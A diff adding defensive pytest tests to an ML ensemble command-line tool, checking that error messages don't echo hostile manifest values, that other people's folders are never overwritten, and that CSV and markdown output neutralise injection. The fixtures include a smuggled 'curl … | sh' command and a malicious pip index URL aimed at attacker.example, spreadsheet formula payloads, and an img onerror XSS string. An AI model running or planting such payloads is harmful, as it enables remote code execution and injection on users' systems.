@@ -178,3 +178,110 @@ def test_a_missing_plugins_package_is_shown_only_if_it_is_a_package_name(hostile
     err = capsys.readouterr().err
     assert "pip install" not in err and "\x1b" not in err
     assert "members/0/package" in err and err.count("\n") == 1
+    assert "index-url" not in err and "attacker" not in err  # the lure is not echoed
+
+
+@pytest.mark.parametrize("member", [
+    {"version": "1 ; curl https://attacker.example/x | sh"},
+    {"name": {"run": "pip install evil --index-url https://attacker.example/simple"}},
+])
+def test_schema_errors_name_the_field_without_echoing_a_lure(hostile, capsys, member):
+    manifest = json.loads((hostile / "manifest.json").read_text())
+    manifest["members"][0].update(member)
+    (hostile / "manifest.json").write_text(json.dumps(manifest))
+    assert main(["evaluate", str(hostile)]) == 2
+    err = capsys.readouterr().err
+    assert f"members/0/{next(iter(member))}" in err and err.count("\n") == 1
+    assert "attacker" not in err and "curl" not in err and "index-url" not in err
+
+
+def web_app(folder):
+    """A folder of someone else's that happens to hold a manifest.json, as web apps do."""
+    (folder / "src").mkdir(parents=True)
+    files = {"manifest.json": json.dumps({"name": "My App", "manifest_version": 3,
+                                          "version": "1.0", "files": {}}),
+             "index.html": "<!doctype html><title>app</title>",
+             "src/app.js": "console.log('years of work')"}
+    for name, text in files.items():
+        (folder / name).write_text(text)
+    return files
+
+
+def assert_intact(folder, files):
+    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*")
+                  if p.is_file()) == sorted(files)
+    assert all((folder / name).read_text() == text for name, text in files.items())
+    assert not [p for p in folder.parent.iterdir() if ".tmp-" in p.name]
+
+
+def test_fit_refuses_a_folder_with_someone_elses_manifest_and_touches_nothing(
+        workspace, tmp_path, capsys):
+    X, y = make_text_dataset(2, n_per_class=10, seed=5)
+    pd.DataFrame({"text": X, "target": y}).to_csv(tmp_path / "train.csv", index=False)
+    config = tmp_path / "c.toml"
+    config.write_text(f'name = "x"\n[data]\ntrain = "{tmp_path / "train.csv"}"\n'
+                      f'[members.nb]\nplugin = "tfidf-nb"\n')
+    files = web_app(tmp_path / "webapp")
+    assert main(["fit", str(config), "-o", str(tmp_path / "webapp")]) == 2
+    err = capsys.readouterr().err
+    assert "is not an ensemble-engine model directory" in err and err.count("\n") == 1
+    assert_intact(tmp_path / "webapp", files)
+
+
+@pytest.mark.parametrize("manifest", ["{not json", "[1, 2]", '{"format_version": 1}',
+                                      '{"format_version": "1", "members": [], "files": {}}'])
+def test_recombine_and_save_refuse_a_folder_whose_manifest_is_not_ours(
+        workspace, tmp_path, capsys, manifest):
+    files = web_app(tmp_path / "extension")
+    (tmp_path / "extension" / "manifest.json").write_text(manifest)
+    files["manifest.json"] = manifest
+    assert main(["recombine", str(workspace / "model"), "--combiner", "mean", "-o",
+                 str(tmp_path / "extension")]) == 2
+    assert "is not an ensemble-engine model directory" in capsys.readouterr().err
+    with pytest.raises(Exception, match="is not an ensemble-engine model directory"):
+        load(workspace / "model").save(tmp_path / "extension")
+    assert_intact(tmp_path / "extension", files)
+
+
+def test_one_of_our_models_and_an_empty_folder_are_still_replaced(workspace, tmp_path):
+    shutil.copytree(workspace / "model", tmp_path / "ours")
+    (tmp_path / "empty").mkdir()
+    for target in ("ours", "empty"):
+        assert main(["recombine", str(workspace / "model"), "--combiner", "mean", "-o",
+                     str(tmp_path / target)]) == 0
+        assert load(tmp_path / target).combiner_.name == "mean"
+
+
+CR_IDS = ["\r=1+1", "x\r=2+2", "y\n@SUM(1)", "plain"]
+
+
+def lines_of(raw: str) -> list[str]:
+    """Rows as a reader that ends lines at any CR or LF sees them."""
+    return raw.replace("\r\n", "\n").replace("\r", "\n").split("\n")
+
+
+def test_ids_with_a_bare_carriage_return_start_no_formula_row(workspace, tmp_path):
+    X, _ = make_text_dataset(2, n_per_class=2, seed=4)
+    pd.DataFrame({"id": CR_IDS, "text": X}).to_csv(tmp_path / "cr.csv", index=False,
+                                                   quoting=1)  # csv.QUOTE_ALL
+    assert main(["predict", str(workspace / "model"), str(tmp_path / "cr.csv"), "-o",
+                 str(tmp_path / "p.csv")]) == 0
+    raw = (tmp_path / "p.csv").read_bytes().decode()
+    assert not [line for line in lines_of(raw) if line.startswith(("=", "@", "+", "-"))]
+    assert "x\r'=2+2" in raw
+
+
+def test_evaluate_markdown_shows_names_and_labels_as_text():
+    """What `evaluate --format markdown` prints: member names (from a manifest a stranger
+    wrote) and labels are text, never HTML, links or extra cells."""
+    from markdown_it import MarkdownIt
+
+    from engine.tables import to_markdown
+
+    table = pd.DataFrame({"accuracy": [0.5, 0.75], "F1 <b>fire</b>": [0.1, 0.2]},
+                         index=["<img src=x onerror=alert(1)>", "[nb](https://evil.example) | x"])
+    out = to_markdown(table)
+    html = MarkdownIt("commonmark").enable("table").render(out)
+    assert "<img" not in html and "<a " not in html and "<b>" not in html
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;b&gt;fire" in html
+    assert html.count("<td>") == 6 and html.count("<th>") == 3  # no extra cells
